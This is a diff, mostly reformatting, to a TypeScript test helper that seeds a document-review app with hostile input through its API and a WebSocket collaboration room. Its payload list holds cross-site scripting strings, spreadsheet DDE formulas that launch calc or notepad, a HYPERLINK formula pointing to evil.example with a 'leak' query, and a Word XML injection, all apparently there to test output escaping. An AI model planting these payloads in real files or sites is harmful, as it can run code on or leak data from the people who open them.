@@ -4,8 +4,9 @@
  * rationale and proposal, a consolidated finding, and a comment (written into the room over Yjs the
  * way the editor does).
  */
-import { WebsocketProvider } from 'y-websocket'
+
 import WebSocket from 'ws'
+import { WebsocketProvider } from 'y-websocket'
 import * as Y from 'yjs'
 import { addComment } from '../../shared/collab/roomDoc.js'
 import { api } from '../e2e/harness.js'
@@ -18,8 +19,8 @@ export const PAYLOADS = {
   svg: '"><svg onload=alert(1)>',
   hyperlink: '=HYPERLINK("http://evil.example/?leak","click me")',
   dde: "+cmd|' /C calc'!A0",
-  minus: '-2+3+cmd|\' /C notepad\'!A0',
-  at: '@SUM(1+1)*cmd|\' /C calc\'!A0',
+  minus: "-2+3+cmd|' /C notepad'!A0",
+  at: "@SUM(1+1)*cmd|' /C calc'!A0",
   wordXml: '</w:t></w:r><w:r><w:t>INJECTED',
   mdLink: '[click](javascript:alert(1))',
 } as const
@@ -55,11 +56,30 @@ const must = <T>(r: Res<T>, status: number, what: string): T => {
 
 /** Seed everything through the public API (and one comment over the WebSocket). */
 export async function seedHostileReview(url: string, port: number): Promise<HostileSeed> {
-  const setup = must(await api(url).post<{ token: string }>('/api/setup', { name: `Admin ${PAYLOADS.img}`, password: 'correct horse battery' }), 201, 'setup')
+  const setup = must(
+    await api(url).post<{ token: string }>('/api/setup', {
+      name: `Admin ${PAYLOADS.img}`,
+      password: 'correct horse battery',
+    }),
+    201,
+    'setup',
+  )
   const admin = api(url, setup.token)
-  const draft = must(await admin.post<{ id: string; versionId: string; units: { id: string; text: string }[] }>('/api/drafts', { title: `Draft ${ALL}`, text: HOSTILE_DRAFT }), 201, 'draft')
+  const draft = must(
+    await admin.post<{ id: string; versionId: string; units: { id: string; text: string }[] }>(
+      '/api/drafts',
+      { title: `Draft ${ALL}`, text: HOSTILE_DRAFT },
+    ),
+    201,
+    'draft',
+  )
   const review = must(
-    await admin.post<{ id: string; joinCode: string; groups: { id: string; room: string }[]; consolidatedRoom: string }>('/api/reviews', {
+    await admin.post<{
+      id: string
+      joinCode: string
+      groups: { id: string; room: string }[]
+      consolidatedRoom: string
+    }>('/api/reviews', {
       title: `Review ${PAYLOADS.script}`,
       draftId: draft.id,
       groups: [`Group ${PAYLOADS.img}`, `Group ${PAYLOADS.hyperlink}`],
@@ -68,7 +88,15 @@ export async function seedHostileReview(url: string, port: number): Promise<Host
     'review',
   )
   const group = review.groups[0]!
-  const joined = must(await api(url).post<{ token: string }>('/api/join', { code: review.joinCode, name: `Olim ${PAYLOADS.svg}`, groupId: group.id }), 201, 'join')
+  const joined = must(
+    await api(url).post<{ token: string }>('/api/join', {
+      code: review.joinCode,
+      name: `Olim ${PAYLOADS.svg}`,
+      groupId: group.id,
+    }),
+    201,
+    'join',
+  )
   const participant = api(url, joined.token)
   const findingsUrl = `/api/reviews/${review.id}/groups/${group.id}/findings`
   let findingId = ''
@@ -76,13 +104,27 @@ export async function seedHostileReview(url: string, port: number): Promise<Host
     const unit = draft.units.find((u) => u.text.includes(quote))
     if (!unit) continue
     const f = must(
-      await participant.post<{ id: string }>(findingsUrl, { unitId: unit.id, quote, factorIds: [], rationale: `${PAYLOADS[key as keyof typeof PAYLOADS]} ${ALL}`, proposal: ALL }),
+      await participant.post<{ id: string }>(findingsUrl, {
+        unitId: unit.id,
+        quote,
+        factorIds: [],
+        rationale: `${PAYLOADS[key as keyof typeof PAYLOADS]} ${ALL}`,
+        proposal: ALL,
+      }),
       201,
       `finding on ${key}`,
     )
     findingId ||= f.id
   }
-  must(await admin.post(`/api/reviews/${review.id}/consolidated/findings`, { from: [findingId], rationale: `Merged ${ALL}`, proposal: PAYLOADS.dde }), 201, 'merge')
+  must(
+    await admin.post(`/api/reviews/${review.id}/consolidated/findings`, {
+      from: [findingId],
+      rationale: `Merged ${ALL}`,
+      proposal: PAYLOADS.dde,
+    }),
+    201,
+    'merge',
+  )
   await writeComment(`ws://127.0.0.1:${port}/collab`, group.room, joined.token, findingId, `Comment ${ALL}`)
   return {
     adminToken: setup.token,
@@ -97,7 +139,13 @@ export async function seedHostileReview(url: string, port: number): Promise<Host
 }
 
 /** Add a comment to a finding through the room, as the editor does, and wait until the server has it. */
-async function writeComment(wsBase: string, room: string, token: string, findingId: string, text: string): Promise<void> {
+async function writeComment(
+  wsBase: string,
+  room: string,
+  token: string,
+  findingId: string,
+  text: string,
+): Promise<void> {
   const doc = new Y.Doc()
   const provider = new WebsocketProvider(wsBase, room, doc, {
     WebSocketPolyfill: WebSocket as unknown as typeof globalThis.WebSocket,
@@ -106,7 +154,14 @@ async function writeComment(wsBase: string, room: string, token: string, finding
   })
   try {
     await waitForSync(provider, 15_000)
-    addComment(doc, { id: `c-${Date.now()}`, findingId, parentId: null, author: { id: 'x', name: `Olim ${PAYLOADS.svg}` }, text, createdAt: new Date().toISOString() })
+    addComment(doc, {
+      id: `c-${Date.now()}`,
+      findingId,
+      parentId: null,
+      author: { id: 'x', name: `Olim ${PAYLOADS.svg}` },
+      text,
+      createdAt: new Date().toISOString(),
+    })
     // A second client seeing the comment proves the server applied it.
     const check = new Y.Doc()
     const watcher = new WebsocketProvider(wsBase, room, check, {
@@ -116,7 +171,15 @@ async function writeComment(wsBase: string, room: string, token: string, finding
     })
     try {
       await waitForSync(watcher, 15_000)
-      await waitForDoc(check, () => check.getArray('comments').toArray().some((c) => (c as { text?: string }).text === text), 10_000)
+      await waitForDoc(
+        check,
+        () =>
+          check
+            .getArray('comments')
+            .toArray()
+            .some((c) => (c as { text?: string }).text === text),
+        10_000,
+      )
     } finally {
       watcher.destroy()
     }
